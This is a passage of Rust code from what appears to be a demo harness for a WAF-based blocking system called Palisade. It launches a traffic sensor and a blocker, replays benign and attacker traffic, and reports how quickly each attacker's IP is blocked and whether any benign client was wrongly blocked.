        cmd.arg("--nats-url")
            .arg(nats.url())
            .args(["--sensor-id", "demo-node"])
            .arg("--trusted-proxy")
            .arg(format!("{}/32", ns.ns_addr))
            .arg("--report-special")
            .arg(DEMO_RANGES.join(","))
            .arg("--metrics-listen")
            .arg(format!("127.0.0.1:{metrics_port}"))
            .env("RUST_LOG", "info");
        if let Some(dir) = &opts.crs_dir {
            cmd.arg("--crs-dir").arg(dir);
        }
        // The sidecar modes name their pod from the Downward API's variables, as the
        // manifests set them.
        if matches!(mode, SensorMode::Log | SensorMode::Mirror) {
            cmd.env("POD_NAME", DEMO_POD)
                .env("POD_NAMESPACE", DEMO_NAMESPACE);
        }
        match mode {
            SensorMode::Cgroup => {
                cmd.args(["--source", "cgroup"])
                    .arg("--port")
                    .arg(APP_PORT.to_string());
                if let Some(pod) = &pod_app {
                    cmd.arg("--pod-logs-dir").arg(&pod.pods_dir);
                }
            }
            SensorMode::Ebpf => {
                cmd.args(["--source", "ebpf"])
                    .arg("--interface")
                    .arg(&ns.host_if)
                    .arg("--port")
                    .arg(APP_PORT.to_string());
            }
            SensorMode::Log => {
                cmd.args(["--source", "log", "--log-format", "json"])
                    .arg("--log-file")
                    .arg(&access_log);
            }
            SensorMode::Mirror => {
                // nginx tells the sensor the namespace address (the trusted load balancer) in
                // X-Palisade-Peer; the client comes from its X-Forwarded-For.
                let port = mirror_port.unwrap_or(9099);
                cmd.args(["--source", "mirror", "--mirror-listen"])
                    .arg(format!("127.0.0.1:{port}"));
            }
        }
        cmd
    };
    let http = HttpGet;
    let start_sensor = |mode: SensorMode| {
        let work = work.path();
        let http = &http;
        let cmd = crate::free_port().map(|port| (sensor_command(mode, port), port));
        async move {
            let (cmd, port) = cmd?;
            say(v, format!("starting palisade-sensor ({mode:?} source)"));
            let name = match mode {
                SensorMode::Cgroup => "sensor-cgroup",
                SensorMode::Ebpf => "sensor-ebpf",
                SensorMode::Log => "sensor-log",
                SensorMode::Mirror => "sensor-mirror",
            };
            let mut sensor = Service::spawn(name, cmd, work).await?;
            // `/readyz` answers 200 once the source captures (the metrics endpoint comes up
            // before the eBPF program is attached)
            let ready_url = format!("http://127.0.0.1:{port}/readyz");
            wait_http_ok(&mut sensor, http, &ready_url).await?;
            anyhow::Ok(sensor)
        }
    };

    // Wait until the blocker is ready and the sensor captures.
    wait_http_ok(&mut blocker, &http, &format!("{admin_url}/readyz")).await?;
    let (mode, mut sensor) = match opts.mode {
        Some(mode) => (mode, start_sensor(mode).await?),
        None => match start_sensor(SensorMode::Cgroup).await {
            Ok(sensor) => (SensorMode::Cgroup, sensor),
            Err(err) => {
                say(
                    v,
                    format!("the eBPF sensor did not start ({err:#}); using the access-log source"),
                );
                (SensorMode::Log, start_sensor(SensorMode::Log).await?)
            }
        },
    };
    say(
        v,
        "blocker ready, sensor attached; sending traffic through the load balancer",
    );

    // The plan: every client's requests interleaved.
    let attack_list = attackers();
    let benign_list = benign();
    let mut lists: Vec<Vec<PlannedRequest>> = benign_list.iter().map(|(_, r)| r.clone()).collect();
    lists.extend(attack_list.iter().map(|(_, _, r)| r.clone()));
    let plan = interleave(lists);
    let plan_json = json!({"target": app_addr.to_string(), "requests": plan});
    let script = crate::workspace_root().join("scripts/demo_traffic.py");
    let mut traffic = ChildGuard(
        ns.exec_cmd(&["python3", &script.to_string_lossy()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .context("starting the traffic generator in the namespace")?,
    );
    // std::process here (the namespace helper builds std commands); feed and read on a thread.
    let mut stdin = traffic.0.stdin.take().context("traffic stdin")?;
    let body = serde_json::to_vec(&plan_json)?;
    std::thread::spawn(move || {
        let _ = stdin.write_all(&body);
    });
    let stdout = traffic.0.stdout.take().context("traffic stdout")?;
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<serde_json::Value>();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(stdout)
            .lines()
            .map_while(Result::ok)
        {
            if let Ok(v) = serde_json::from_str(&line) {
                let _ = tx.send(v);
            }
        }
    });

    let attacker_ips: BTreeMap<IpAddr, &str> = attack_list
        .iter()
        .filter_map(|(c, what, _)| c.parse().ok().map(|ip| (ip, *what)))
        .collect();
    let benign_ips: BTreeSet<IpAddr> = benign_list
        .iter()
        .filter_map(|(c, _)| c.parse().ok())
        .collect();
    let mut first_attack: BTreeMap<IpAddr, u128> = BTreeMap::new();
    let mut blocked_at: BTreeMap<IpAddr, u128> = BTreeMap::new();
    let mut sent = 0usize;
    let mut answered = 0usize;
    let mut traffic_done = false;
    let started = Instant::now();
    loop {
        // Drain what the generator reported.
        loop {
            match rx.try_recv() {
                Ok(v) => {
                    sent += 1;
                    if v.get("status").and_then(|s| s.as_u64()).is_some() {
                        answered += 1;
                    }
                    let client = v
                        .get("client")
                        .and_then(|c| c.as_str())
                        .and_then(|c| c.parse().ok());
                    let at = v.get("sent_ms").and_then(|t| t.as_u64()).map(u128::from);
                    if let (Some(ip), Some(at)) = (client, at)
                        && attacker_ips.contains_key(&ip)
                    {
                        first_attack.entry(ip).or_insert(at);
                    }
                }
                Err(tokio::sync::mpsc::error::TryRecvError::Empty) => break,
                Err(tokio::sync::mpsc::error::TryRecvError::Disconnected) => {
                    traffic_done = true;
                    break;
                }
            }
        }
        blocker.check_running()?;
        sensor.check_running()?;
        let now = unix_ms();
        let present = waf.entries().await?;
        for ip in attacker_ips.keys() {
            if present.contains(&host_prefix(*ip)) {
                blocked_at.entry(*ip).or_insert(now);
            }
        }
        if traffic_done && blocked_at.len() == attacker_ips.len() {
            break;
        }
        if started.elapsed() > BLOCK_DEADLINE {
            say(v, "deadline reached before every attacker was blocked");
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = traffic.0.wait();
    // Give a late (wrong) benign block a chance to show up before judging.
    tokio::time::sleep(Duration::from_millis(1500)).await;

    let (status, blocks_body) = http.get(&format!("{admin_url}/v1/blocks")).await?;
    if status != 200 {
        bail!("GET /v1/blocks answered {status}");
    }
    let blocks: serde_json::Value =
        serde_json::from_str(&blocks_body).context("/v1/blocks JSON")?;
    let mut ip_sets = BTreeMap::new();
    let mut present = BTreeSet::new();
    for arn in [v4_arn, v6_arn] {
        let (name, addrs) = get_ip_set(admin, arn).await?;
        present.extend(addrs.iter().cloned());
        ip_sets.insert(name, addrs);
    }
    let rules_for = |ip: IpAddr| -> Vec<String> {
        let mut rules = BTreeSet::new();
        for b in blocks_array(&blocks) {
            let cidr = b.get("cidr").and_then(|c| c.as_str()).unwrap_or_default();
            if cidr == host_prefix(ip) {
                for r in b
                    .get("reasons")
                    .and_then(|r| r.as_array())
                    .into_iter()
                    .flatten()
                {
                    if let Some(rule) = r.get("rule").and_then(|x| x.as_str()) {
                        rules.insert(rule.to_string());
                    }
                }
            }
        }
        rules.into_iter().collect()
    };
    let probed_by = |ip: IpAddr| -> Vec<String> {
        let mut pods = BTreeSet::new();
        for b in blocks_array(&blocks) {
            if b.get("cidr").and_then(|c| c.as_str()) != Some(host_prefix(ip).as_str()) {
                continue;
            }
            for r in b
                .get("reasons")
                .and_then(|r| r.as_array())
                .into_iter()
                .flatten()
            {
                let field = |k: &str| {
                    r.get("context")
                        .and_then(|c| c.get(k))
                        .and_then(|x| x.as_str())
                        .map(str::to_owned)
                };
                if let (Some(ns), Some(pod)) = (field("namespace"), field("pod")) {
                    pods.insert(format!("{ns}/{pod}"));
                }
            }
        }
        pods.into_iter().collect()
    };
    let attackers = attack_list
        .iter()
        .filter_map(|(c, what, _)| {
            let ip: IpAddr = c.parse().ok()?;
            let seconds = match (first_attack.get(&ip), blocked_at.get(&ip)) {
                (Some(a), Some(b)) => Some(b.saturating_sub(*a) as f64 / 1000.0),
                _ => None,
            };
            Some(Attacker {
                client: ip,
                attack: what.to_string(),
                rules: rules_for(ip),
                probed: probed_by(ip),
                seconds_to_block: seconds,
            })
        })
        .collect();
    let benign_blocked = benign_ips
        .iter()
        .filter(|ip| present.contains(&host_prefix(**ip)) || !rules_for(**ip).is_empty())
        .copied()
        .collect();
    let outcome = DemoOutcome {
        mode,
        attackers,
        benign_clients: benign_ips.len(),
        benign_blocked,
        ip_sets,
        requests_sent: sent,
        requests_answered: answered,
        update_calls: waf.proxy.calls("UpdateIPSet"),
        throttled: waf.proxy.errors("ThrottlingException"),
        cli_blocks: blocks_list(&opts.bin_dir, &admin_url).await?,
    };

    say(v, "stopping the sensor and the blocker (SIGTERM)");
    let sensor_stop = sensor.stop().await;
    let blocker_stop = blocker.stop().await;
    if let Some(app) = app {
        app.abort();
    }
    drop(pod_app);
    sensor_stop?;
    blocker_stop?;
    drop(ns);
    drop(waf);
    drop(nats);
    Ok(outcome)
}

/// `/v1/blocks` may be a list or an object holding one under `blocks`.
fn blocks_array(v: &serde_json::Value) -> Vec<serde_json::Value> {
    match v {
        serde_json::Value::Array(a) => a.clone(),
        serde_json::Value::Object(o) => o
            .get("blocks")
            .and_then(|b| b.as_array())
            .cloned()
            .unwrap_or_default(),
        _ => Vec::new(),
    }
}

/// Wait until `url` answers 200, failing early if the service exits.
pub(crate) async fn wait_http_ok(
    svc: &mut Service,
    http: &HttpGet,
    url: &str,
) -> anyhow::Result<()> {
    let limit = Duration::from_secs(30);
    let start = Instant::now();
    loop {
        svc.check_running()?;
        if matches!(http.get(url).await, Ok((200, _))) {
            return Ok(());
        }
        if start.elapsed() > limit {
            bail!(
                "{} did not answer 200 on {url} within {limit:?}:\n{}",
                svc.name,
                tail(&svc.log, 30)
            );
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// A tiny HTTP/1.1 GET client for loopback admin endpoints (no extra dependency).
#[derive(Debug)]
pub(crate) struct HttpGet;

impl HttpGet {
    pub(crate) async fn get(&self, url: &str) -> anyhow::Result<(u16, String)> {
        let rest = url.strip_prefix("http://").context("only http:// URLs")?;
        let (authority, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        let mut sock = tokio::time::timeout(
            Duration::from_secs(2),
            tokio::net::TcpStream::connect(authority),
        )
        .await
        .context("connect timed out")??;
        sock.write_all(
            format!("GET {path} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n")
                .as_bytes(),
        )
        .await?;
        let mut reader = BufReader::new(sock);
        let mut status_line = String::new();
        reader.read_line(&mut status_line).await?;
        let status: u16 = status_line
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .context("bad status line")?;
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(5), reader.read_to_end(&mut rest))
            .await
            .context("reading the response timed out")??;
        let text = String::from_utf8_lossy(&rest);
        let (headers, body) = text.split_once("\r\n\r\n").unwrap_or(("", &text));
        let body = if headers
            .to_ascii_lowercase()
            .contains("transfer-encoding: chunked")
        {
            dechunk(body)
        } else {
            body.to_string()
        };
        Ok((status, body))
    }
}

fn dechunk(mut s: &str) -> String {
    let mut out = String::new();
    while let Some((size, rest)) = s.split_once("\r\n") {
        let Ok(n) = usize::from_str_radix(size.trim(), 16) else {
            break;
        };
        if n == 0 || rest.len() < n {
            break;
        }
        out.push_str(&rest[..n]);
        s = rest[n..].trim_start_matches("\r\n");
    }
    out
}

/// Print the outcome for a person.
/// `palisade blocks list` against the blocker at `url`, as an operator would run it.
async fn blocks_list(bin_dir: &Path, url: &str) -> anyhow::Result<Option<String>> {
    let cli = bin_dir.join("palisade");
    if !cli.exists() {
        return Ok(None);
    }
    let out = Command::new(&cli)
        .args(["--url", url, "blocks", "list"])
        .output()
        .await
        .with_context(|| format!("running {}", cli.display()))?;
    if !out.status.success() {
        bail!(
            "palisade blocks list failed ({}): {}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
    }
    Ok(Some(String::from_utf8_lossy(&out.stdout).into_owned()))
}

pub fn print_summary(o: &DemoOutcome) {
    println!();
    println!("Palisade demo — sensor source: {:?}", o.mode);
    println!(
        "{} requests sent through the load balancer, {} answered",
        o.requests_sent, o.requests_answered
    );
    println!();
    println!(
        "{:<20} {:<52} {:<26} {:<26} {:>10}",
        "attacker", "what it sent", "caught by rule", "probed pod", "blocked in"
    );
    for a in &o.attackers {
        let rules = if a.rules.is_empty() {
            "-".to_string()
        } else {
            a.rules.join(", ")
        };
        let t = a
            .seconds_to_block
            .map(|s| format!("{s:.1} s"))
            .unwrap_or_else(|| "NOT BLOCKED".to_string());
        let probed = if a.probed.is_empty() {
            "-".to_string()
        } else {
            a.probed.join(", ")
        };
        println!(
            "{:<20} {:<52} {:<26} {:<26} {:>10}",
            a.client.to_string(),
            a.attack,
            rules,
            probed,
            t
        );
    }
    println!();
    if o.benign_blocked.is_empty() {
        println!(
            "No benign client was blocked ({} browsing clients).",
            o.benign_clients
        );
    } else {
        println!("BENIGN CLIENTS BLOCKED: {:?}", o.benign_blocked);
    }
    println!(
        "AWS calls: {} UpdateIPSet, {} throttled (write budget 1/s per account and region)",
        o.update_calls, o.throttled
    );
    println!();
    println!("WAF IP sets as GetIPSet returns them:");
    for (name, addrs) in &o.ip_sets {
        println!("  {name}: {addrs:?}");
    }
    println!();
    if let Some(list) = &o.cli_blocks {
        println!("$ palisade blocks list");
        print!("{list}");
        println!();
    }
    println!(
        "{}",
        if o.success() {
            "Demo OK."
        } else {
            "Demo FAILED."
        }
    );
}
